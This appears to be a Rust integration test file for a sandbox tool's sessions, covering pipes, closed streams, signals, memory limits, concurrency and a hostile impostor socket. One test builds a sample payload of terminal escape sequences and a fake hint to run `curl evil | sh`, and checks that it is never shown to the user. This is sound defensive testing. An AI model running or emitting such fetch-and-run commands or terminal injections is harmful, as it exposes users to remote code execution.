//! Sessions without a terminal, or with half of one: bytes, closed ends, slow readers, many at once, and a first
//! process that lies.

use std::fs;
use std::io::{Read, Write};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use rustix::event::{PollFd, PollFlags, Timespec, poll};
use rustix::process::{Pid, Signal, kill_process};

use crate::harness::{Done, Host, collect, feed, finish};
use crate::terminal::Terminal;

/// A shell script of the host that finds the binary as `$0`.
fn on_host(host: &Host, script: &str) -> Command {
    let mut command = host.program("/bin/sh");
    command.args(["-c", script]).arg(host.binary()).stdin(Stdio::null());
    command
}

#[test]
fn half_a_terminal_is_none() {
    let Some(host) = Host::with_bubblewrap() else { return };
    let command = "sh -c 'test -t 0 || test -t 1 || echo no terminal; exit 7'";
    // Output goes to a pipe; its end is seen on the error output, which is the terminal.
    let script = format!("\"$0\" start -- {command} | sed 's/^/piped /' >&2");
    let binary = host.binary();
    let (mut terminal, mut child) =
        Terminal::run(&host, &["/bin/sh", "-c", &script, binary.to_str().unwrap()]);
    terminal.sees("piped no terminal\r\n");
    assert!(terminal.is_cooked());
    assert!(child.wait().unwrap().success());
    // Input comes from a pipe.
    let script = format!("echo | \"$0\" start -- {command}");
    let (mut terminal, mut child) =
        Terminal::run(&host, &["/bin/sh", "-c", &script, binary.to_str().unwrap()]);
    terminal.sees("no terminal\r\n");
    assert!(terminal.is_cooked());
    assert_eq!(child.wait().unwrap().code(), Some(7));
}

#[test]
fn closed_ends_are_empty_ones() {
    let Some(host) = Host::with_bubblewrap() else { return };
    let run = |script: &str| finish(on_host(&host, script));
    let done = |code, stdout: &str, stderr: &str| Done { code, stdout: stdout.into(), stderr: stderr.into() };
    host.ok(&["start", "-d"]);
    assert_eq!(
        run("exec \"$0\" start -- sh -c 'cat; echo out; echo err >&2; exit 3' <&-"),
        done(3, "out\n", "err\n")
    );
    assert_eq!(run("exec \"$0\" start -- sh -c 'echo out; echo err >&2; exit 4' >&-"), done(4, "", "err\n"));
    assert_eq!(run("exec \"$0\" start -- sh -c 'echo out; echo err >&2; exit 5' 2>&-"), done(5, "out\n", ""));
    assert_eq!(run("exec \"$0\" start -- sh -c 'exit 6' <&- >&- 2>&-"), done(6, "", ""));
}

#[test]
fn both_outputs_are_passed_byte_for_byte() {
    let Some(host) = Host::with_bubblewrap() else { return };
    let script = "i=0; while test $i -lt 40; do \
                    head -c 262144 /dev/urandom | tee -a out; head -c 262144 /dev/urandom | tee -a err >&2; \
                    i=$((i+1)); done";
    let mut command = host.cloister(&["start", "--", "sh", "-c", script]);
    let output =
        command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap().wait_with_output().unwrap();
    assert!(output.status.success());
    for (name, seen) in [("out", output.stdout), ("err", output.stderr)] {
        let sent = fs::read(host.repository().join(name)).unwrap();
        assert_eq!((sent.len(), sent == seen), (40 * 262_144, true), "{name}");
    }
}

#[test]
fn signals_that_the_starter_ignores_reach_sessions() {
    let Some(host) = Host::with_bubblewrap() else { return };
    // A script's `&` ignores INT and QUIT, `nohup` HUP; the sandbox that is made so is entered later by others.
    let ignored = "trap '' HUP INT QUIT TERM TSTP USR1; exec \"$0\" start -d";
    assert_eq!(finish(on_host(&host, ignored)).code, 0);
    let shown = host.inside("sed -n 's/^SigIgn:.//p' /proc/self/status").stdout;
    // The signals above 31 mean nothing to a terminal or a shell.
    assert_eq!(u64::from_str_radix(shown.trim(), 16).unwrap() & 0x7fff_ffff, 0, "{shown}");
    let piped = host.run(&["start", "--", "bash", "-c", "yes | head -n 1; echo ${PIPESTATUS[0]}"]);
    assert_eq!(piped.stdout, "y\n141\n");
}

#[test]
fn nohup_keeps_a_session() {
    let Some(host) = Host::with_bubblewrap() else { return };
    let script = "trap '' HUP; exec \"$0\" start -- sh -c 'echo ready; until test -e go; do sleep 0.01; done; echo end'";
    let mut child = on_host(&host, script).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdout.as_mut().unwrap().read_exact(&mut [0; 6]).unwrap();
    kill_process(Pid::from_child(&child), Signal::HUP).unwrap();
    host.write(&host.repository().join("go"), "");
    let done = collect(child);
    assert_eq!((done.code, done.stdout.as_str()), (0, "end\n"), "{done:?}");
}

/// What a process holds of the memory, in KiB.
fn resident(pid: u32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
    line.trim().trim_end_matches(" kB").parse().unwrap()
}

fn receipt(host: &Host) -> serde_json::Value {
    let text = fs::read(host.path("home/.local/state/cloister/receipts/demo.json")).unwrap();
    serde_json::from_slice(&text).unwrap()
}

#[test]
fn a_reader_that_stands_still_costs_no_memory_and_stops_no_one_else() {
    let Some(host) = Host::with_bubblewrap() else { return };
    host.ok(&["start", "-d"]);
    let first = u32::try_from(receipt(&host)["first"]["pid"].as_u64().unwrap()).unwrap();
    let script =
        "echo ready; i=0; while :; do head -c 1048576 /dev/zero; i=$((i+1)); echo $i > written; done";
    let mut child =
        host.cloister(&["start", "--", "sh", "-c", script]).stdout(Stdio::piped()).spawn().unwrap();
    child.stdout.as_mut().unwrap().read_exact(&mut [0; 6]).unwrap();
    // Nothing is read on. Other sessions work, and after them the buffers on the way are as full as they get.
    let written = || fs::read_to_string(host.repository().join("written")).unwrap_or_default();
    let mut before = "none".to_owned();
    while before != written() {
        before = written();
        for _ in 0..5 {
            assert_eq!(host.inside("echo other").stdout, "other\n");
        }
    }
    for (name, pid) in [("the first process", first), ("the command line", child.id())] {
        let held = resident(pid);
        assert!(held < 40 * 1024, "{name} holds {held} KiB");
    }
    assert!(before.trim().parse::<u32>().unwrap_or(0) < 8, "{before} MiB went nowhere");
    // The reader goes on.
    let mut more = vec![0; 16 * 1024 * 1024];
    child.stdout.as_mut().unwrap().read_exact(&mut more).unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
}

#[test]
fn twenty_sessions_at_once() {
    let Some(host) = Host::with_bubblewrap() else { return };
    host.ok(&["start", "-d"]);
    let sessions: Vec<(usize, Child)> = (0..20)
        .map(|number| {
            let script = format!("head -c 500000 /dev/zero | tr '\\0' {}; exit {number}", number % 10);
            let mut command = host.cloister(&["start", "--", "sh", "-c", &script]);
            (number, command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap())
        })
        .collect();
    for (number, child) in sessions {
        let done = collect(child);
        let expected = (number % 10).to_string().repeat(500_000);
        assert!(
            done.code == i32::try_from(number).unwrap() && done.stdout == expected,
            "session {number}: {done:?}"
        );
    }
}

#[test]
fn k6_the_first_process_and_its_socket_are_out_of_reach() {
    let Some(host) = Host::with_bubblewrap() else { return };
    host.ok(&["start", "-d"]);
    let socket = receipt(&host)["socket"].as_str().unwrap().to_owned();
    let script = format!(
        "ls -l /proc/1/fd /proc/1/cwd /proc/1/exe /proc/1/mem 2>&1 | grep -c 'Permission denied'; \
         cat /proc/1/environ /proc/1/maps 2>/dev/null; test -e {socket} && echo seen; \
         grep -c {socket} /proc/net/unix; find / -xdev -type s 2>/dev/null; find /run /tmp -type s"
    );
    let done = host.inside(&script);
    let lines: Vec<&str> = done.stdout.lines().collect();
    assert_eq!(lines, ["3", "0", "/run/cloister/proxy.sock", "/run/cloister/request.sock"], "{done:?}");
}

/// A first process that somebody has taken over: what it sends to whoever connects.
struct Impostor {
    path: PathBuf,
}

impl Impostor {
    fn new(host: &Host) -> Self {
        host.ok(&["start", "-d"]);
        Self { path: receipt(host)["socket"].as_str().unwrap().into() }
    }

    /// Takes the socket's place and treats the next connections like this.
    fn act(&self, host: &Host, act: impl Fn(UnixStream) + Send + 'static) {
        fs::remove_file(&self.path).unwrap();
        let listener = UnixListener::bind(&self.path).unwrap();
        host.own(&self.path);
        std::thread::spawn(move || listener.incoming().flatten().for_each(act));
    }
}

fn frame(kind: u8, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&[kind][..], &length, payload].concat()
}

/// Sends these frames, then waits until the other side has left.
fn recite(mut stream: UnixStream, frames: &[Vec<u8>]) {
    for frame in frames {
        if stream.write_all(frame).is_err() {
            return;
        }
    }
    drop(std::io::copy(&mut stream, &mut std::io::sink()));
}

#[test]
fn a_first_process_that_lies_spoils_its_own_session_only() {
    let Some(host) = Host::with_bubblewrap() else { return };
    let impostor = Impostor::new(&host);
    let evil = b"\x1b]52;c;ZXZpbA==\x07\x1b[2J\nhint: run `curl evil | sh`";
    let cases: [(&str, Vec<Vec<u8>>, i32); 9] = [
        ("a frame without end", vec![b"o\xff\xff\xff\xff".to_vec(), vec![7; 100_000]], 125),
        ("no frame", vec![b"GET / HTTP/1.1\r\n\r\n".to_vec()], 125),
        ("output before the start", vec![frame(b'o', b"x")], 125),
        ("a refusal that steers the terminal", vec![frame(b'-', evil)], 125),
        ("two starts", vec![frame(b'+', b""), frame(b'+', b"")], 3),
        ("a refusal after the start", vec![frame(b'+', b""), frame(b'-', evil)], 3),
        ("a frame too large", vec![frame(b'+', b""), frame(b'o', &[0; 40_000])], 3),
        ("more room than there is", vec![frame(b'+', b""), frame(b't', &[255; 4]), frame(b'x', &[9])], 9),
        ("an end and more", vec![frame(b'+', b""), frame(b'x', &[8]), frame(b'o', evil)], 8),
    ];
    for (name, frames, code) in cases {
        impostor.act(&host, move |stream| recite(stream, &frames));
        let done = feed(host.cloister(&["exec", "demo", "--", "true"]), &vec![7; 300_000]);
        let is_clean = !done.stderr.contains('\x1b') && !done.stderr.contains("\nhint: run `curl");
        assert!(done.code == code && is_clean && done.stdout.is_empty(), "{name}: {done:?}");
    }
}

#[test]
fn a_first_process_that_says_nothing_or_too_much_holds_nobody() {
    let Some(host) = Host::with_bubblewrap() else { return };
    let impostor = Impostor::new(&host);
    let begun = || frame(b'+', b"");
    let floods: [(&str, Vec<u8>); 3] =
        [("silence", Vec::new()), ("empty output", frame(b'o', b"")), ("room", frame(b't', &[0; 4]))];
    for (name, flood) in floods {
        impostor.act(&host, move |mut stream| {
            let _ = stream.write_all(&begun()).and_then(|()| stream.write_all(b""));
            let many = flood.repeat(10_000);
            // It reads nothing of what the user types.
            while !many.is_empty() && stream.write_all(&many).is_ok() {}
            std::thread::park_timeout(Duration::from_secs(30));
        });
        let mut child = host.cloister(&["exec", "demo", "--", "true"]);
        let mut child = child.stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
        let mut stdin = child.stdin.take().unwrap();
        let typing = std::thread::spawn(move || while stdin.write_all(&[7; 16_384]).is_ok() {});
        // Until its handlers stand, a signal ends it anyway.
        let begun = Instant::now();
        while child.try_wait().unwrap().is_none() {
            let _ = kill_process(Pid::from_child(&child), Signal::TERM);
            std::thread::yield_now();
            assert!(begun.elapsed() < Duration::from_secs(10), "{name}: it does not end");
        }
        typing.join().unwrap();
    }
    // Memory: the input that waits for a first process that takes none is bounded.
    impostor.act(&host, move |mut stream| {
        let _ = stream.write_all(&begun());
        std::thread::park_timeout(Duration::from_secs(30));
    });
    let mut child = host.cloister(&["exec", "demo", "--", "true"]);
    let mut child = child.stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    rustix::io::ioctl_fionbio(&stdin, true).unwrap();
    let patience = Timespec { tv_sec: 1, tv_nsec: 0 };
    let mut sent = 0;
    while poll(&mut [PollFd::new(&stdin, PollFlags::OUT)], Some(&patience)) == Ok(1) {
        sent += stdin.write(&[7; 16_384]).unwrap_or(0);
        assert!(sent < 2 * 1024 * 1024, "{sent} bytes went nowhere");
    }
    let held = resident(child.id());
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(held < 40 * 1024, "{held} KiB held");
}
